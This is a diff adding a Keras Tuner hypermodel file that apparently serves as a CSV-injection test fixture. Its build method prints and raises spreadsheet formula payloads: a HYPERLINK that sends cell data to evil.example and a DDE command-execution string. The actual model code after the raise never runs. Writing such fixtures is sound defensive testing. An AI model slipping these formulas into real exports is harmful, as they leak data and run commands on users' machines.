@@ -1,0 +1,28 @@
+"""Its file name and what it prints and raises carry spreadsheet formulas (CSV injection)."""
+import keras
+import keras_tuner
+
+PAYLOAD = 'nota;=HYPERLINK("http://evil.example/?d="&A1;"ver");@SUM(1);+1-1'
+
+
+class MyHyperModel(keras_tuner.HyperModel):
+    def build(self, hp):
+        print(PAYLOAD)
+        print("=cmd|' /C calc'!A0")
+        raise ValueError(PAYLOAD)
+        M = keras.Sequential()
+        M.add(keras.Input(shape=(784,)))
+        M.add(keras.layers.Dense(units=800, activation="relu"))
+        M.add(keras.layers.Dense(10, activation="softmax"))
+        initial_learning_rate = hp.Float("initial_learning_rate", min_value=0.2983, max_value=0.3200)
+        end_learning_rate = hp.Float("end_learning_rate", min_value=0.2800, max_value=0.2983)
+        lr_schedule = keras.optimizers.schedules.PolynomialDecay(
+            initial_learning_rate, 10, end_learning_rate)
+        opt = keras.optimizers.SGD(learning_rate=lr_schedule)
+        M.compile(loss="categorical_crossentropy", optimizer=opt, metrics=["accuracy"])
+        return M
+
+    def fit(self, hp, M, x, y, xy_val, **kwargs):
+        early_cb = keras.callbacks.EarlyStopping(monitor="val_accuracy", patience=20, min_delta=0.0)
+        kwargs["callbacks"].append(early_cb)
+        return M.fit(x, y, batch_size=256, epochs=100, validation_data=xy_val, **kwargs)
